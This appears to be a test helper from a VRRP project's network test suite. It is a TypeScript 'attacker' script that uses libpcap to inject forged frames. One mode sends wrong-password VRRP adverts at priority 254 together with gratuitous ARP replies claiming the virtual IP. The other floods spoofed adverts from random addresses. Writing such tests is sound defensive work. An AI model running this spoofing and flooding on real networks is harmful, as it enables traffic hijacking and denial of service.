/**
 * A hostile host for the network tests (run inside a test namespace only): forges Ethernet frames
 * with libpcap injection, so it can choose any source MAC and IP.
 *
 *   node --import tsx test/net/attacker.ts forge --iface eth0 --vip V --vrid N --seconds S
 *       one advert with a wrong auth_pass at priority 254 every 10 s and a gratuitous ARP
 *       "VIP is-at <our MAC>" every second (the attack of issue 11)
 *   node --import tsx test/net/attacker.ts flood --iface eth0 --vip V --vrid N --rate PPS --seconds S
 *       forged adverts for the VRID from random source MACs and IPs (bad checksum or bad auth)
 *
 * Prints one JSON line with what it sent.
 */
import { parseArgs } from 'node:util';
import { createRequire } from 'node:module';
import { readFileSync } from 'node:fs';
import { encodeAdvert, passwordAuthData } from '../../src/protocol/advert.js';
import { buildEthernetFrame, buildIpv4Header, multicastMac } from '../../src/protocol/frame.js';
import { buildGratuitousArp } from '../../src/protocol/arp.js';
import { AUTH_PASS } from '../../src/protocol/constants.js';
import { ipBytes, parseMac } from '../../src/protocol/inet.js';

const require = createRequire(import.meta.url);
const pcap = require('pcap') as { createSession(dev: string, o: object): { inject(b: Buffer): void; close(): void } };

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    iface: { type: 'string', default: 'eth0' },
    vip: { type: 'string' },
    vrid: { type: 'string', default: '51' },
    rate: { type: 'string', default: '20000' },
    seconds: { type: 'string', default: '10' },
    source: { type: 'string', default: '10.251.0.10' },
  },
});
const mode = positionals[0];
const vip = values.vip!;
const vrid = Number(values.vrid);
const session = pcap.createSession(values.iface!, { filter: 'ether proto 0x88b5', buffer_timeout: 0 });
const ownMac = readFileSync(`/sys/class/net/${values.iface}/address`, 'utf8').trim();
const GROUP = '224.0.0.18';

function advertFrame(source: string, mac: string, password: string, corruptChecksum: boolean): Buffer {
  const msg = encodeAdvert(
    { version: 2, vrid, priority: 254, advertIntervalMs: 1000, addresses: [vip], authType: AUTH_PASS, authData: passwordAuthData(password) },
    { family: 'ipv4', source, destination: GROUP },
  );
  if (corruptChecksum) msg[7] = msg[7]! ^ 0x5a;
  const ip = buildIpv4Header({ source: ipBytes(source), destination: ipBytes(GROUP), payloadLength: msg.length, id: 1 });
  const packet = new Uint8Array(ip.length + msg.length);
  packet.set(ip);
  packet.set(msg, ip.length);
  return Buffer.from(buildEthernetFrame(multicastMac(ipBytes(GROUP)), parseMac(mac)!, 0x0800, packet));
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const seconds = Number(values.seconds);
let adverts = 0;
let garps = 0;
const end = Date.now() + seconds * 1000;

if (mode === 'forge') {
  let nextAdvert = Date.now();
  while (Date.now() < end) {
    if (Date.now() >= nextAdvert) {
      session.inject(advertFrame(values.source!, ownMac, 'evil', false));
      adverts++;
      nextAdvert += 10_000;
    }
    session.inject(Buffer.from(buildGratuitousArp(ownMac, vip)));
    garps++;
    await sleep(1000);
  }
} else if (mode === 'flood') {
  const rate = Number(values.rate);
  const start = Date.now();
  let x = 0x9e3779b9;
  const rnd = () => ((x ^= x << 13), (x ^= x >>> 17), (x ^= x << 5), x >>> 0);
  while (Date.now() < end) {
    const due = Math.floor(((Date.now() - start) / 1000) * rate);
    while (adverts < due) {
      const r = rnd();
      const mac = `02:${[r >>> 24, (r >>> 16) & 255, (r >>> 8) & 255, r & 255, rnd() & 255].map((b) => b.toString(16).padStart(2, '0')).join(':')}`;
      const source = `10.${(r >>> 24) % 250 + 1}.${(r >>> 16) & 255}.${(r & 255) % 250 + 1}`;
      session.inject(advertFrame(source, mac, 'evil', adverts % 2 === 0));
      adverts++;
    }
    await sleep(5);
  }
} else {
  process.stderr.write('usage: attacker.ts forge|flood --iface IF --vip V [--vrid N] [--rate PPS] [--seconds S]\n');
  process.exit(2);
}
session.close();
process.stdout.write(`${JSON.stringify({ mode, adverts, garps, mac: ownMac })}\n`);
process.exit(0);
